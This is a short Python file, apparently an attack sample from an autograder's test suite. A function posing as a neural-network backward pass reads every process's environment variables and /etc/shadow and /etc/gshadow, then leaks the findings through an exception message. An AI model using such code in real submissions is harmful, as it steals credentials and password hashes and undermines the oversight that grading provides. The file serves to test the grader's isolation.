"""reads the grader's environment (/proc/PPID/environ, /proc/1/environ, every /proc/*/environ) and /etc/shadow,
and raises what it found

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: isolated
"""
import os
from autograder.validation.attacks.shared.grader_pids import secrets_in
def TARGET_BACKWARD(dout, cache):

    found = []
    pids = [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]
    for pid in dict.fromkeys(pids):
        try:
            with open('/proc/%d/environ' % pid, 'rb') as f:
                found += secrets_in(f.read())
        except OSError:
            pass
    for path in ('/etc/shadow', '/etc/gshadow'):
        try:
            with open(path) as f:
                found += [line.strip() for line in f if line.strip()][:3]
        except OSError:
            pass
    raise RuntimeError('found: ' + ' | '.join(dict.fromkeys(found))[:480] if found else 'nothing found')
